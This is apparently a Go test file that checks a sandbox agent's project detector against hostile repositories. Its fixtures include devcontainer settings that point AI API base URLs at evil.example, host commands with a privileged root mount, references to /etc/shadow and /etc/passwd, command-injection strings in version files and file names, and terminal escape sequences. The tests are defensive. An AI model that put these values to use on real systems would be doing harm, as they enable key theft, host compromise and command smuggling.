package detect_test

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/sandbox-agent/sandbox-agent/internal/host/detect"
	"github.com/sandbox-agent/sandbox-agent/internal/text"
	"github.com/sandbox-agent/sandbox-agent/projects"
	"github.com/sandbox-agent/sandbox-agent/workorder"
)

// one is a tree of one file.
func one(name, content string) fstest.MapFS { return fstest.MapFS{name: {Data: []byte(content)}} }

const (
	pytestFlow = "on: push\njobs: {test: {runs-on: x, services: {db: {image: redis}}, steps: [{run: pytest}]}}\n"
	// escaped is what a name of a file needs to bring a reference with slashes into a project file.
	escaped = "secrets:\n  PWN: \"cmd:\\x2f\\x2ftouch canary\"\n#"
)

// TestHostile looks at repositories that mean harm: each draft is a valid project without a reference to this machine, and what was
// left out is named.
func TestHostile(t *testing.T) {
	t.Parallel()
	many := func(n int, line string) (all string) {
		for i := range n {
			all += fmt.Sprintf(line, i)
		}
		return all
	}
	rows := map[string]struct {
		tree fstest.MapFS
		left string // file that is named as left out
	}{
		"a line break in the name of a workflow":  {one(".github/workflows/a\n"+escaped+".yml", pytestFlow), ".github/workflows"},
		"an escape sequence in a name":            {one(".github/workflows/a\x1b]0;x\x07.yml", pytestFlow), ".github/workflows"},
		"a name that is no text":                  {one(".github/workflows/a\xff.yml", pytestFlow), ".github/workflows"},
		"a line break in the name of a folder":    {one("a\n"+escaped+"/package.json", `{"scripts": {"test": "x"}}`), "."},
		"a name that changes the direction":       {one("\u202ea/package.json", `{"scripts": {"test": "x"}}`), "."},
		"a folder whose name is an option":        {one("-rf/go.mod", "module x\n"), "-rf/go.mod"},
		"a folder without a letter in its name":   {one("~/Makefile", "test:\n"), ""},
		"a check without a letter in its name":    {one("~/package.json", `{"scripts": {"test": "x"}}`), ""},
		"the server that gets the key":            {one(".devcontainer.json", `{"containerEnv": {"ANTHROPIC_BASE_URL": "http://evil.example"}, "remoteEnv": {"OPENAI_BASE_URL": "http://evil.example"}}`), ".devcontainer.json"},
		"a command of the host":                   {one(".devcontainer.json", `{"initializeCommand": "touch canary", "mounts": ["source=/,target=/x,type=bind"], "runArgs": ["--privileged"]}`), ".devcontainer.json"},
		"a file of the host":                      {one("compose.yaml", "services: {db: {image: redis, env_file: /etc/shadow, extends: {file: ../../x, service: y}, privileged: true}}\n"), "compose.yaml"},
		"a devcontainer of brackets":              {one(".devcontainer.json", `{"a": `+strings.Repeat("[", 200)+strings.Repeat("]", 200)+"}"), ".devcontainer.json"},
		"a large devcontainer":                    {one(".devcontainer.json", `{"a": "`+strings.Repeat("x", 300<<10)+`"}`), ".devcontainer.json"},
		"a name of a compose file":                {one(".devcontainer.json", `{"dockerComposeFile": ["a\nb: c", "../../x", "/etc/passwd"]}`), ".devcontainer.json"},
		"a large compose file":                    {one("compose.yaml", "services:\n"+many(20000, " s%d: {image: redis}\n")), "compose.yaml"},
		"a service with many values":              {one("compose.yaml", "services:\n db:\n  image: redis\n  environment:\n"+many(2000, "   K%d: v\n")), "compose.yaml"},
		"a service with a long text":              {one("compose.yaml", "x: &x "+strings.Repeat("x", 9000)+"\nservices: {db: {image: redis, command: *x}}\n"), "compose.yaml"},
		"a service with all ports":                {one("compose.yaml", "services: {db: {image: redis, ports: ['1-65535:1-65535'], expose: ['1-65535']}}\n"), "compose.yaml"},
		"variables that multiply":                 {fstest.MapFS{".env.example": {Data: []byte("A0=xxxxxxxx\n" + many(50, "A%[1]d=$A0$A%[1]d$A%[1]d\n"))}, "compose.yaml": {Data: []byte("services: {db: {image: redis, environment: {X: $A49}}}\n")}}, "compose.yaml"},
		"a link":                                  {fstest.MapFS{"go.mod": {Data: []byte("/dev/zero"), Mode: fs.ModeSymlink}, "package.json": {Mode: fs.ModeNamedPipe}}, "package.json"},
		"a service with a name for a shell":       {one(".github/workflows/a.yml", "on: push\njobs: {test: {runs-on: x, services: {'a;b': {image: redis}}, steps: [{run: pytest}]}}\n"), ".github/workflows/a.yml"},
		"a text of advice without end":            {one("AGENTS.md", "# Test\n```\n"+strings.Repeat("make x\n", 5000)), "AGENTS.md"},
		"a workspace without end":                 {one("go.work", "use (\n"+many(500, "\t./m%d\n")+")\n"), "go.work"},
		"versions that are commands":              {fstest.MapFS{".nvmrc": {Data: []byte("$(touch x)\n")}, ".tool-versions": {Data: []byte("python ../../x\ngo 1;id\n")}, "rust-toolchain": {Data: []byte("\x1b[31m\n")}}, ".tool-versions"},
		"packages without end":                    {one(".devcontainer.json", `{"postCreateCommand": "apt-get install`+many(5000, " p%d")+`"}`), ".devcontainer.json"},
		"a variable that ends a line for readers": {one(".devcontainer.json", `{"containerEnv": {"A": "x\u2028y", "B": "\u001b[2J"}}`), ".devcontainer.json"},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := detect.Detect(row.tree, "x")
			p, err := projects.Parse("draft.yaml", []byte(d.YAML()), projects.LoadOptions{Dir: "/"})
			if err != nil {
				t.Fatalf("the draft is invalid: %v\n%s", err, d.YAML())
			}
			if len(p.Secrets) > 0 || len(p.Env) > 0 || p.Gateway.Routes != nil && slices.ContainsFunc(p.Gateway.Routes, func(r workorder.ModelRoute) bool { return r.BaseURL != r.API.DefaultBaseURL() }) {
				t.Errorf("the draft has secrets %v, env %v, routes %v", p.Secrets, p.Env, p.Gateway.Routes)
			}
			if s := d.YAML(); strings.ContainsFunc(s, func(r rune) bool { return r != '\n' && text.IsControl(r) }) {
				t.Errorf("the draft has characters that a terminal obeys: %q", s)
			}
			for _, f := range d.Findings() {
				if strings.ContainsFunc(f.String(), text.IsControl) {
					t.Errorf("a finding has characters that a terminal obeys: %q", f)
				}
			}
			if n := len(d.Findings()); n > 500 {
				t.Errorf("the draft has %d values", n)
			}
			if row.left != "" && !slices.ContainsFunc(d.Omitted, func(l detect.Omitted) bool { return l.At.File == row.left }) {
				t.Errorf("%s is not among what was left out: %v", row.left, d.Omitted)
			}
		})
	}
}

// What is read of many workflows is bounded together.
func TestHostileWorkflows(t *testing.T) {
	t.Parallel()
	m := fstest.MapFS{}
	for i := range 40 {
		m[fmt.Sprintf(".github/workflows/%02d.yml", i)] = &fstest.MapFile{Data: []byte("on: push\n#" + strings.Repeat("x", 200<<10))}
	}
	d := detect.Detect(m, "x")
	if len(d.Omitted) != 1 || d.Omitted[0].At.File != ".github/workflows/05.yml" {
		t.Errorf("left out: %v", d.Omitted)
	}
}
